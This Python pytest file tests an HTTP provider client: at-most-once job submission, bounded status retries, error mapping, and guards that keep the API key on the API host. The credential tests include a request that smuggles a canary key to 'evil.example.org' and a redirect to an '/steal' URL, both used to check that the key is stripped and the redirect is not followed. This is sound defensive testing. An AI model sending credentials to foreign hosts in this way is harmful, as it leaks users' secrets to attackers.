"""HttpProvider: at-most-once submits, bounded GET retries, credential guard, error tables."""

from __future__ import annotations

import asyncio
from typing import Any, ClassVar

import httpx
import pytest
import respx

from kling_core.contract.capabilities import ModelCapabilities, ProviderCapabilities
from kling_core.contract.models import EditRequest
from kling_core.contract.status import JobStatus, Running
from kling_core.errors import (
    AuthenticationError,
    InsufficientCreditsError,
    ProtocolError,
    ProviderError,
    ProviderValidationError,
    RateLimitedError,
    SubmitUncertainError,
)
from kling_core.http import ErrorRule, ErrorTable, HttpProvider
from kling_core.http.base import SUBMIT_CONNECT_RETRIES
from kling_core.provider import JobHandle, ProviderContext
from kling_core.settings import CredentialSpec, PollSettings, ProviderSettings

KEY = "sk-CANARY-0123456789abcdef"
BASE = "https://api.example.com"
SUBMIT = f"{BASE}/v1/jobs"
STATUS = f"{BASE}/v1/jobs/j1"


class Demo(HttpProvider):
    name: ClassVar[str] = "demo"
    credentials = (CredentialSpec("api_key", "DEMO_KEY"),)
    capabilities = ProviderCapabilities(models=(ModelCapabilities("kling-o1"),))
    default_base_url: ClassVar[str] = BASE
    auth_header: ClassVar[str] = "x-api-key"
    auth_scheme: ClassVar[str] = ""
    error_table = ErrorTable(
        by_status={406: ErrorRule(InsufficientCreditsError, False)},
        by_code={"busy": ErrorRule(ProviderError, True, "host busy")},
    )

    def build_submit(self, request: EditRequest) -> httpx.Request:
        return self.make_request("POST", self.url("v1/jobs"), json_body={"prompt": request.prompt})

    def parse_submit(self, response: httpx.Response, request: EditRequest) -> JobHandle:
        doc = self.json_object(response)
        if not isinstance(doc.get("id"), str):
            raise self.protocol_error("no id", response)
        return JobHandle(provider=self.name, job_id=doc["id"])

    def build_status(self, handle: JobHandle) -> httpx.Request:
        return self.make_request("GET", self.url(f"v1/jobs/{handle.job_id}"))

    def parse_status(self, response: httpx.Response, handle: JobHandle) -> JobStatus:
        self.json_object(response)
        return Running(job_id=handle.job_id, provider=self.name)


class Sleeps(list[float]):
    async def __call__(self, seconds: float) -> None:
        self.append(seconds)


def make(router: respx.Router, *, poll: PollSettings | None = None, base_url: str | None = None) -> tuple[Demo, Sleeps]:
    sleeps = Sleeps()
    ctx = ProviderContext(
        name="demo",
        settings=ProviderSettings(poll=poll or PollSettings(status_retries=3), base_url=base_url),
        environ={"DEMO_KEY": KEY},
        transport=httpx.MockTransport(router.handler),
        sleep=sleeps,
    )
    return Demo(ctx), sleeps


REQ = EditRequest(prompt="sunset", video="https://media.example.com/a.mp4", client_key="ck-1")


def run(coro: Any) -> Any:
    return asyncio.run(coro)


async def _submit(p: Demo) -> JobHandle:
    try:
        return await p.submit(REQ)
    finally:
        await p.aclose()


async def _status(p: Demo) -> JobStatus:
    try:
        return await p.status(JobHandle(provider="demo", job_id="j1"))
    finally:
        await p.aclose()


# -- at-most-once submit -------------------------------------------------------------


@pytest.mark.parametrize("exc", [httpx.ReadTimeout, httpx.RemoteProtocolError, httpx.WriteTimeout, httpx.ReadError])
def test_failure_after_send_is_uncertain_and_never_resubmitted(exc: type[Exception]) -> None:
    router = respx.Router()
    route = router.post(SUBMIT).mock(side_effect=exc("lost"))
    p, sleeps = make(router)
    with pytest.raises(SubmitUncertainError) as info:
        run(_submit(p))
    assert route.call_count == 1
    assert sleeps == []
    assert info.value.client_key == "ck-1" and info.value.provider == "demo"
    assert "NOT resubmitted" in str(info.value) and "ck-1" in str(info.value)


@pytest.mark.parametrize("exc", [httpx.ConnectError, httpx.ConnectTimeout])
def test_connect_failures_are_retried_then_succeed(exc: type[Exception]) -> None:
    router = respx.Router()
    route = router.post(SUBMIT).mock(side_effect=[exc("refused"), exc("refused"), httpx.Response(200, json={"id": "j1"})])
    p, sleeps = make(router)
    handle = run(_submit(p))
    assert handle.job_id == "j1" and handle.client_key == "ck-1" and handle.submitted_at is not None
    assert route.call_count == 3
    assert len(sleeps) == 2


def test_connect_failures_are_bounded_and_say_nothing_was_submitted() -> None:
    router = respx.Router()
    route = router.post(SUBMIT).mock(side_effect=httpx.ConnectError("refused"))
    p, sleeps = make(router)
    with pytest.raises(ProviderError) as info:
        run(_submit(p))
    assert not isinstance(info.value, SubmitUncertainError)
    assert info.value.retryable is True and "nothing was submitted" in str(info.value)
    assert route.call_count == SUBMIT_CONNECT_RETRIES + 1
    assert len(sleeps) == SUBMIT_CONNECT_RETRIES


@pytest.mark.parametrize(
    ("status", "cls", "retryable"),
    [
        (408, ProviderError, True),
        (409, ProviderError, False),
        (429, RateLimitedError, True),
        (500, ProviderError, True),
        (502, ProviderError, True),
        (503, ProviderError, True),
        (504, ProviderError, True),
        (400, ProviderValidationError, False),
        (401, AuthenticationError, False),
        (406, InsufficientCreditsError, False),
        (422, ProviderValidationError, False),
    ],
)
def test_error_response_on_submit_is_mapped_and_not_retried(status: int, cls: type[Exception], retryable: bool) -> None:
    router = respx.Router()
    route = router.post(SUBMIT).mock(return_value=httpx.Response(status, json={"error": "nope"}, headers={"retry-after": "1"}))
    p, sleeps = make(router)
    with pytest.raises(cls) as info:
        run(_submit(p))
    assert type(info.value) is cls
    assert route.call_count == 1 and sleeps == []
    assert info.value.status_code == status and info.value.retryable is retryable  # type: ignore[attr-defined]
    assert "nope" in str(info.value)


def test_host_code_rule_wins_over_status() -> None:
    router = respx.Router()
    router.post(SUBMIT).mock(return_value=httpx.Response(400, json={"error": "try later", "code": "busy"}))
    p, _ = make(router)
    with pytest.raises(ProviderError) as info:
        run(_submit(p))
    assert type(info.value) is ProviderError and info.value.retryable and info.value.code == "busy"


def test_unreadable_2xx_submit_is_uncertain_not_protocol() -> None:
    router = respx.Router()
    route = router.post(SUBMIT).mock(return_value=httpx.Response(200, text="<html>ok</html>"))
    p, _ = make(router)
    with pytest.raises(SubmitUncertainError) as info:
        run(_submit(p))
    assert route.call_count == 1 and info.value.status_code == 200


# -- status GET retries ---------------------------------------------------------------


def test_status_retries_transients_within_budget() -> None:
    router = respx.Router()
    route = router.get(STATUS).mock(
        side_effect=[httpx.ReadTimeout("slow"), httpx.Response(503), httpx.Response(200, json={})]
    )
    p, sleeps = make(router)
    assert isinstance(run(_status(p)), Running)
    assert route.call_count == 3 and len(sleeps) == 2


def test_status_gives_up_after_status_retries() -> None:
    router = respx.Router()
    route = router.get(STATUS).mock(return_value=httpx.Response(502, json={"error": "bad gateway"}))
    p, sleeps = make(router, poll=PollSettings(status_retries=2))
    with pytest.raises(ProviderError) as info:
        run(_status(p))
    assert route.call_count == 3 and len(sleeps) == 2
    assert info.value.status_code == 502 and info.value.job_id == "j1" and info.value.retryable


def test_status_transport_errors_exhausted() -> None:
    router = respx.Router()
    route = router.get(STATUS).mock(side_effect=httpx.ConnectError("down"))
    p, _ = make(router, poll=PollSettings(status_retries=1))
    with pytest.raises(ProviderError) as info:
        run(_status(p))
    assert route.call_count == 2 and info.value.retryable and "ConnectError" in str(info.value)


def test_status_honours_retry_after_and_stops_when_too_long() -> None:
    router = respx.Router()
    router.get(STATUS).mock(
        side_effect=[httpx.Response(429, headers={"retry-after": "7"}), httpx.Response(200, json={})]
    )
    p, sleeps = make(router)
    run(_status(p))
    assert sleeps == [7.0]

    router = respx.Router()
    route = router.get(STATUS).mock(return_value=httpx.Response(429, headers={"retry-after": "500"}, json={"error": "slow down"}))
    p, sleeps = make(router, poll=PollSettings(max_retry_after=120.0))
    with pytest.raises(RateLimitedError) as info:
        run(_status(p))
    assert route.call_count == 1 and sleeps == [] and info.value.retry_after == 500.0


def test_long_retry_after_on_503_stops_as_rate_limited() -> None:
    router = respx.Router()
    route = router.get(STATUS).mock(return_value=httpx.Response(503, headers={"retry-after": "3600"}, json={"error": "maintenance"}))
    p, sleeps = make(router)
    with pytest.raises(RateLimitedError) as info:
        run(_status(p))
    assert route.call_count == 1 and sleeps == []
    assert info.value.retry_after == 3600.0 and info.value.status_code == 503 and "maintenance" in str(info.value)


def test_status_4xx_is_not_retried() -> None:
    router = respx.Router()
    route = router.get(STATUS).mock(return_value=httpx.Response(401, json={"error": "bad key"}))
    p, _ = make(router)
    with pytest.raises(AuthenticationError):
        run(_status(p))
    assert route.call_count == 1


def test_status_bad_json_is_protocol_error() -> None:
    router = respx.Router()
    router.get(STATUS).mock(return_value=httpx.Response(200, text="not json"))
    p, _ = make(router)
    with pytest.raises(ProtocolError):
        run(_status(p))


# -- credentials stay on the API hosts -----------------------------------------------


def test_make_request_refuses_credentials_for_other_hosts() -> None:
    p, _ = make(respx.Router())
    with pytest.raises(ProtocolError, match="refusing"):
        p.make_request("GET", "https://cdn.example.net/file.mp4")
    with pytest.raises(ProtocolError):
        p.make_request("GET", "https://api.example.com\x1f/bad")  # an unreadable journaled URL
    req = p.make_request("GET", "https://cdn.example.net/file.mp4", auth=False)
    assert "x-api-key" not in req.headers


def test_request_hook_strips_credential_headers_for_foreign_hosts() -> None:
    seen: list[httpx.Request] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(200, json={})

    p = Demo(ProviderContext(name="demo", environ={"DEMO_KEY": KEY}, transport=httpx.MockTransport(handler)))

    async def go() -> None:
        # A hand-built request smuggling the key to another host: the hook removes it.
        rogue = httpx.Request("GET", "https://evil.example.org/x", headers={"x-api-key": KEY, "x-other": f"k={KEY}"})
        await p.client.send(rogue)
        await p.client.send(p.make_request("GET", STATUS))
        await p.aclose()

    run(go())
    assert "x-api-key" not in seen[0].headers and "x-other" not in seen[0].headers
    assert seen[1].headers["x-api-key"] == KEY


def test_api_redirects_are_not_followed() -> None:
    router = respx.Router()
    router.get(STATUS).mock(return_value=httpx.Response(302, headers={"location": "https://evil.example.org/steal"}))
    evil = router.get("https://evil.example.org/steal").mock(return_value=httpx.Response(200, json={}))
    p, _ = make(router)
    with pytest.raises(ProviderError):
        run(_status(p))
    assert evil.call_count == 0


def test_base_url_override_moves_calls_and_credential_scope() -> None:
    router = respx.Router()
    route = router.post("http://127.0.0.1:9999/v1/jobs").mock(return_value=httpx.Response(200, json={"id": "j9"}))
    p, _ = make(router, base_url="http://127.0.0.1:9999/")
    assert run(_submit(p)).job_id == "j9"
    assert route.calls[0].request.headers["x-api-key"] == KEY
    assert "127.0.0.1" in p.api_hosts()


def test_repr_and_errors_hide_the_key() -> None:
    router = respx.Router()
    router.post(SUBMIT).mock(return_value=httpx.Response(401, json={"error": f"key {KEY} is invalid"}))
    p, _ = make(router)
    assert KEY not in repr(p) and KEY not in str(p.secrets)
    with pytest.raises(AuthenticationError) as info:
        run(_submit(p))
    assert KEY not in str(info.value) and KEY not in repr(info.value)


def test_error_messages_are_bounded() -> None:
    router = respx.Router()
    router.post(SUBMIT).mock(return_value=httpx.Response(400, json={"error": "x" * 5000}))
    p, _ = make(router)
    with pytest.raises(ProviderValidationError) as info:
        run(_submit(p))
    assert len(str(info.value)) < 700

